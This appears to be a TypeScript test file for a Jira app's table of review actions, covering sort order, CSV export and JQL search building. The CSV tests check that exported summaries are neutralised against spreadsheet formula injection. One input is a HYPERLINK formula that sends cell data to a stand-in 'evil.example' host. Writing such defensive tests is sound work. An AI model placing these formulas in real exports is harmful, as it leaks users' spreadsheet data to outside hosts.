/** The table of actions without a screen: its order, its file, and what it is as a search of Jira. */
import { parse } from 'papaparse';
import { daysIn } from '../../../src/domain/calendarDays';
import { MOST_ACTIONS_IN_SEARCH } from '../../../src/usecases/readActionsSearch';
import { csvName, csvOf } from '../../../static/src/project/actions/actionsCsv';
import { inOrder, jiraOrder, nextSort, sortFrom } from '../../../static/src/project/actions/actionOrder';
import type { ActionRow } from '../../../static/src/project/actions/actionRows';
import { COLUMN_IDS, COLUMNS } from '../../../static/src/project/actions/columns';
import { searchOfRows, shownRows } from '../../../static/src/project/actions/shownActions';
import { NO_FILTERS, viewOf } from '../../../static/src/project/pageView';
import { anActionProperty } from '../../usecases/reviewedProject';

type Action = ActionRow['action'];

function aRow(
  id: string,
  action: Partial<Action> = {},
  row: Partial<Omit<ActionRow, 'action'>> = {},
): ActionRow {
  const origin = 'origin' in action ? action.origin : anActionProperty();
  return {
    id,
    declined: origin?.dropped === true,
    late: 0,
    text: `ops-${id} ${action.summary ?? ''}`.toLowerCase(),
    ...row,
    action: {
      id,
      key: `OPS-${id}`,
      summary: `Action ${id}`,
      type: { name: 'Task', level: 0 },
      statusCategory: 'new',
      status: 'To Do',
      ...action,
      origin,
    },
  };
}

const idsIn = (rows: readonly ActionRow[]) => rows.map(({ id }) => id);

describe('order', () => {
  const rows = [
    aRow('10', { summary: 'Éclair', due: '2026-12-01', priority: 'Low' }, { late: 3 }),
    aRow('9', { summary: 'zebra', priority: 'Highest' }),
    aRow('100', { summary: 'apple', due: '2025-01-31', priority: 'Medium' }, { late: 12 }),
  ];

  it.each([
    ['', ['10', '9', '100']],
    ['key', ['9', '10', '100']],
    ['-key', ['100', '10', '9']],
    ['summary', ['100', '10', '9']],
    // What there is not stands at the end, whichever the direction.
    ['due', ['100', '10', '9']],
    ['-due', ['10', '100', '9']],
    ['late', ['10', '100', '9']],
    ['priority', ['9', '100', '10']],
    ['constructor', ['10', '9', '100']],
  ])('by "%s"', (sort, ids) => {
    expect(idsIn(inOrder(rows, sortFrom(sort)))).toEqual(ids);
  });

  it('keeps the newest first among equals, in both directions', () => {
    const equal = ['3', '2', '1'].map((id) => aRow(id));
    expect(idsIn(inOrder(equal, sortFrom('status')))).toEqual(['3', '2', '1']);
    expect(idsIn(inOrder(equal, sortFrom('-status')))).toEqual(['3', '2', '1']);
  });

  it('begins at the end that people look for, and turns around with the next press', () => {
    expect(nextSort(undefined, 'due')).toEqual({ column: 'due', descending: false });
    expect(nextSort(undefined, 'late')).toEqual({ column: 'late', descending: true });
    expect(nextSort({ column: 'late', descending: true }, 'late').descending).toBe(false);
  });

  it('is Jira’s own where Jira has it', () => {
    expect(jiraOrder(sortFrom('-late'))).toEqual({ by: 'duedate', descending: false });
    expect(jiraOrder(sortFrom('priority'))).toEqual({ by: 'priority', descending: true });
    expect(jiraOrder(sortFrom('labels'))).toBeUndefined();
  });
});

describe('the file', () => {
  const utc = daysIn('UTC');
  const csv = (rows: readonly ActionRow[], columns: (typeof COLUMN_IDS)[number][]) =>
    csvOf(rows, columns, utc);

  it('has names, then rows, in UTF-8 with its mark', () => {
    const row = aRow('1', { summary: 'A, "B"\nand C', due: '2026-12-01' }, { late: 4 });
    expect(csv([row], ['key', 'summary', 'due', 'late'])).toBe(
      '\uFEFFKey,Action,Due,Days late\r\nOPS-1,"A, ""B""\nand C",2026-12-01,4\r\n',
    );
  });

  it.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '=1+1\nsecond line',
    '+49 30 1234',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1+1',
  ])('takes no formula from a summary: %j', (summary) => {
    const [, [cell] = []] = parse<string[]>(csv([aRow('1', { summary })], ['summary'])).data;
    expect(cell).toBe(`'${summary}`);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    [';=1', ";'=1"],
    ['a; @SUM(A1:A9);b', "a; '@SUM(A1:A9);b"],
    ['a\n=1+1;', "a\n'=1+1;"],
    ['a\t-1', "a\t'-1"],
    ['=1;=2', "'=1;'=2"],
  ])('takes none from the middle of one, whatever stands between two cells there: %j', (summary, safe) => {
    const [, [cell] = []] = parse<string[]>(csv([aRow('1', { summary })], ['summary'])).data;
    expect(cell).toBe(safe);
  });

  it.each(['a=b', 'מחיר: 5 ₪', '🧯 drill 👩🏽‍🚒', "it's", '“quoted”', '1-2'])('leaves %j as it is', (summary) => {
    const [, [cell] = []] = parse<string[]>(csv([aRow('1', { summary })], ['summary'])).data;
    expect(cell).toBe(summary);
  });

  it('has every column, with days by the reader’s calendar', () => {
    const origin = anActionProperty({
      labels: ['handoff', 'testing-gap'],
      verdict: 'partly',
      verdictOn: '2026-11-01',
    });
    const row = aRow(
      '1',
      {
        owner: { accountId: 'ben', name: 'Ben Okafor', active: true },
        created: '2026-10-31T23:30:00.000+0000',
        doneSince: '2026-11-18T09:00:00.000+0000',
        priority: 'High',
        origin,
      },
      { review: { key: 'PAY-388', summary: 'Payouts delayed' } },
    );
    const [names, cells] = parse<string[]>(csvOf([row], COLUMN_IDS, daysIn('Europe/Berlin'))).data;
    expect(names?.map((name) => name.replace('\uFEFF', ''))).toEqual(
      COLUMN_IDS.map((id) => COLUMNS[id].name),
    );
    expect(cells).toEqual([
      ...[
        'OPS-1',
        'Action 1',
        'To Do',
        'Ben Okafor',
        '',
        '',
        'PAY-388 Payouts delayed',
        'handoff, testing-gap',
      ],
      ...['Prevent', 'Stronger', 'An unanswered alert reaches the secondary within 10 min.', 'Partly'],
      ...['2026-11-01', '2026-11-01', '2026-11-18', 'High'],
    ]);
  });

  it('is called by project and day', () => {
    expect(csvName('PAY', '2026-11-20')).toBe('PAY-actions-2026-11-20.csv');
  });
});

describe('as a search of Jira', () => {
  const searched = (all: readonly ActionRow[], filters: Partial<ReturnType<typeof viewOf>>) => {
    const view = { ...viewOf(''), ...filters };
    const shown = shownRows(all, view);
    return searchOfRows(all, shown, {
      projectId: '10000',
      today: '2026-11-20',
      filters: view,
      order: jiraOrder(sortFrom(view.sort)),
    });
  };
  const jql = (filters: Partial<ReturnType<typeof viewOf>>, all: readonly ActionRow[] = rows) =>
    searched(all, filters)?.jql;
  const ben = { accountId: 'ben', name: 'Ben Okafor', active: true };
  const verified = anActionProperty({ verdict: 'worked', verdictOn: '2026-11-01' });
  const rows = [
    aRow('1', { owner: ben, due: '2026-11-01', summary: 'Runbook', origin: verified }, { late: 19 }),
    aRow('2', { statusCategory: 'done' }),
  ];
  const mine = 'reviewSourceProject = "10000"';
  const open = '(statusCategory != Done OR statusCategory IS EMPTY)';

  it.each([
    [{}, `${mine} ORDER BY created DESC`],
    [{ sort: '-due' }, `${mine} ORDER BY duedate DESC`],
    [{ owner: 'ben' }, `${mine} AND assignee = "ben" ORDER BY created DESC`],
    [{ owner: 'none' }, `${mine} AND assignee IS EMPTY ORDER BY created DESC`],
    [{ state: 'open' }, `${mine} AND ${open} ORDER BY created DESC`],
    [{ state: 'late' }, `${mine} AND ${open} AND duedate < "2026-11-20" ORDER BY created DESC`],
    [{ state: 'done' }, `${mine} AND statusCategory = Done ORDER BY created DESC`],
    [{ state: 'verified' }, `${mine} AND reviewActionVerdict IS NOT EMPTY ORDER BY created DESC`],
    [
      { label: 'handoff', purpose: 'prevent' },
      `${mine} AND reviewActionFactor = "handoff" AND reviewActionPurpose = "prevent" ORDER BY created DESC`,
    ],
    // What JQL has no words for is named one by one.
    [{ find: 'runbook', sort: 'key' }, 'id IN (1) ORDER BY key ASC'],
  ] as const)('%j', (filters, expected) => {
    expect(jql(filters)).toBe(expected);
  });

  it('names the issues where Jira would find others: declined ones, and those that were tampered with', () => {
    const declined = aRow('3', { origin: anActionProperty({ dropped: true }) });
    expect(jql({ state: 'declined' }, [...rows, declined])).toBe('id IN (3) ORDER BY created DESC');
    expect(jql({ state: 'open' }, [...rows, declined])).toBe('id IN (1) ORDER BY created DESC');
    const tampered = aRow('4', { origin: undefined });
    expect(jql({ label: 'handoff' }, [...rows, tampered])).toBe('id IN (1,2) ORDER BY created DESC');
    expect(jql({ state: 'done' }, [...rows, tampered])).toContain('statusCategory = Done');
  });

  it('says when there are more than an address can name', () => {
    const many = Array.from({ length: MOST_ACTIONS_IN_SEARCH + 1 }, (_, id) => aRow(String(id)));
    expect(searched(many, { find: 'ops' })?.cut).toBe(true);
    expect(searched(many.slice(1), { find: 'ops' })?.cut).toBe(false);
    expect(searched(many, { ...NO_FILTERS })?.cut).toBe(false);
  });

  it('is nothing when nothing is shown', () => {
    expect(searched(rows, { find: 'nothing like it' })).toBeUndefined();
  });
});
